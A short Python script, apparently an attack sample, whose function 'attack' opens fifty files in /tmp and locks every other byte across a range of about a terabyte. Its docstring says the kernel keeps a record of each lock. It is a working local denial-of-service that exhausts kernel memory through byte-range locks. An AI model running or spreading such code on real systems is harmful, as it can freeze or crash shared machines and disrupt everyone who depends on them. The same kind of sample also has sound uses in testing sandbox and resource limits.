"""Locks every other byte of its files: the kernel keeps a record of each."""

import fcntl
import os


def attack(x):
    files = [os.open(f"/tmp/{number}", os.O_RDWR | os.O_CREAT) for number in range(50)]
    for start in range(1 << 40, 0, -2):
        for file in files:
            fcntl.lockf(file, fcntl.LOCK_EX, 1, start)
